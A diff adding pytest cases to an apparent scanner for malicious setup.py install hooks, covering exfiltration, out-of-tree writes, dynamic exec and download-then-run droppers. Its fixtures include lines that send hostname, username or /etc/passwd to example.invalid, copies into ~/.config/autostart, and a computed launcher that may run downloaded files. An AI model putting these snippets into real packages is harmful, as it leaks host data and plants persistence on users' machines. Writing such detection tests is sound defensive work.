@@ -244,3 +244,146 @@ def test_exec_reached_by_lookup_of_an_inert_literal_warns(
              f"exec_({code})\nsetup()\n")
     findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
     assert any(f.severity >= Severity.HIGH for f in findings) is blocked
+
+
+PREBUILT = """
+import platform, sys, urllib.request
+from setuptools import setup
+from setuptools.command.bdist_wheel import bdist_wheel
+
+def version():
+    with open("pkg/__init__.py") as handle:
+        return handle.read().split('"')[1]
+
+def wheel_url():
+    machine = platform.uname().machine
+    name = f"pkg-{version()}-cp{sys.version_info.major}{sys.version_info.minor}-linux_{machine}.whl"
+    return "https://github.com/example/pkg/releases/download/v1/" + name, name
+
+class CachedWheels(bdist_wheel):
+    def run(self):
+        url, name = wheel_url()
+        urllib.request.urlretrieve(url, name)
+
+setup(cmdclass={"bdist_wheel": CachedWheels})
+"""
+
+
+def test_prebuilt_wheel_download_warns_but_is_not_exfiltration(tmp_path: Path) -> None:
+    """flash-attn: bdist_wheel fetches a prebuilt wheel named after the platform and the
+    version in the tree's own file. urlretrieve's second argument is where the download goes,
+    not something sent, and uname's machine field is what pip's User-Agent tells every index."""
+    files = {"setup.py": PREBUILT, "pkg/__init__.py": '__version__ = "1.0"\n'}
+    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
+    assert _worst(findings, "hook/env-exfiltration") is None
+    assert _worst(findings, "hook/network-fetch") is Severity.MEDIUM
+    assert max(f.severity for f in findings) < Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        "urllib.request.urlretrieve('https://example.invalid/?h=' + platform.uname().node, 'x')",
+        "urllib.request.urlretrieve('https://example.invalid/?h=' + str(platform.uname()), 'x')",
+        "u = platform.uname()\nurllib.request.urlretrieve('https://example.invalid/' + u[1], 'x')",
+        "urllib.request.urlretrieve('https://example.invalid/', 'x', None, "
+        "open('/etc/passwd', 'rb').read())",
+        "urllib.request.urlretrieve(*['https://example.invalid/?u=' + getpass.getuser(), 'x'])",
+    ],
+    ids=["node", "whole-uname", "uname-index", "posted-data", "starred"],
+)
+def test_host_identity_sent_by_urlretrieve_still_blocks(tmp_path: Path, sent: str) -> None:
+    setup = "import getpass, platform, urllib.request\nfrom setuptools import setup\n"
+    files = {"setup.py": setup + sent + "\nsetup()\n"}
+    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
+    assert max(f.severity for f in findings) >= Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    ("command", "blocks"),
+    [
+        ("['cp', \"//'%s'\" % dataset, 'sdsnc.h']", False),  # ibm_db: a data set copied in
+        ("['ln', '-s', '/opt/lib/libx.so', 'build/libx.so']", False),
+        ("['cp', 'build/tool', os.path.expanduser('~/.local/bin/tool')]", True),
+        ("['cp', '-t', os.path.expanduser('~/.config/autostart'), 'x.desktop']", True),
+    ],
+    ids=["copy-in", "link-in", "copy-out", "copy-out-t"],
+)
+def test_a_copy_program_is_judged_by_its_destination(
+    tmp_path: Path, command: str, blocks: bool
+) -> None:
+    setup = ("import os, subprocess\nfrom setuptools import setup\ndataset = 'DSN.H'\n"
+             f"subprocess.run({command})\nsetup()\n")
+    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", {"setup.py": setup}))
+    assert ((_worst(findings, "hook/outside-write") or Severity.INFO) >= Severity.HIGH) is blocks
+
+
+@pytest.mark.parametrize(
+    ("opened", "worst"),
+    [
+        ('(ROOT / "pkg" / "about.py")', Severity.INFO),  # spacy, srsly: their about.py
+        ('Path(__file__).parent.joinpath("pkg", "about.py")', Severity.INFO),
+        ('(ROOT / "pkg" / "blob.dat")', Severity.HIGH),  # a data file run as code
+    ],
+    ids=["about", "joinpath", "data-file"],
+)
+def test_exec_of_a_file_opened_through_pathlib(
+    tmp_path: Path, opened: str, worst: Severity
+) -> None:
+    setup = ("from pathlib import Path\nfrom setuptools import setup\n"
+             "ROOT = Path(__file__).parent\nabout = {}\n"
+             f"with {opened}.open('r') as f:\n    exec(f.read(), about)\n"
+             "setup(version=about['__version__'])\n")
+    files = {"setup.py": setup, "pkg/about.py": "__version__ = '1.0'\n",
+             "pkg/blob.dat": "__version__ = '1.0'\n"}
+    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
+    assert _worst(findings, "hook/dynamic-exec") is worst
+
+
+FONTS = """
+import io, subprocess, sys, urllib.request, zipfile
+from setuptools import setup
+
+def run(cmd):
+    return subprocess.call(cmd)
+
+def fonts():
+    data = urllib.request.urlopen("https://example.invalid/fonts.zip").read()
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    for name in archive.namelist():
+        with open("src/pkg/fonts/" + name, "wb") as out:
+            out.write(archive.read(name))
+
+if "test" in sys.argv:
+    sys.exit(run(CALL))
+fonts()
+setup()
+"""
+
+
+@pytest.mark.parametrize(
+    ("call", "blocks"),
+    [
+        ("[sys.executable, 'runAll.py'] + sys.argv[2:]", False),  # reportlab's test runner
+        ("sys.argv[2:]", True),  # what it starts is computed: it may be the download
+        ("[sys.executable, sys.argv[2]]", True),
+        ("['src/pkg/fonts/' + sys.argv[2]]", True),
+    ],
+    ids=["spelled-script", "computed", "computed-script", "runs-the-download"],
+)
+def test_download_and_a_helper_start_block_unless_the_start_is_spelled(
+    tmp_path: Path, call: str, blocks: bool
+) -> None:
+    """reportlab downloads font files into its tree and has a helper that runs its test
+    suite: the dropper rule (data written, a program started, steps in helpers) needs a start
+    that could run what was written."""
+    files = {"setup.py": FONTS.replace("CALL", call)}
+    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
+    assert (max(f.severity for f in findings) >= Severity.HIGH) is blocks
+
+
+def test_a_helper_passed_around_still_counts_as_a_start(tmp_path: Path) -> None:
+    setup = FONTS.replace("CALL", "[sys.executable, 'runAll.py']").replace(
+        "fonts()\n", "fonts()\nlist(map(run, [sys.argv[2:]]))\n")
+    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", {"setup.py": setup}))
+    assert max(f.severity for f in findings) >= Severity.HIGH
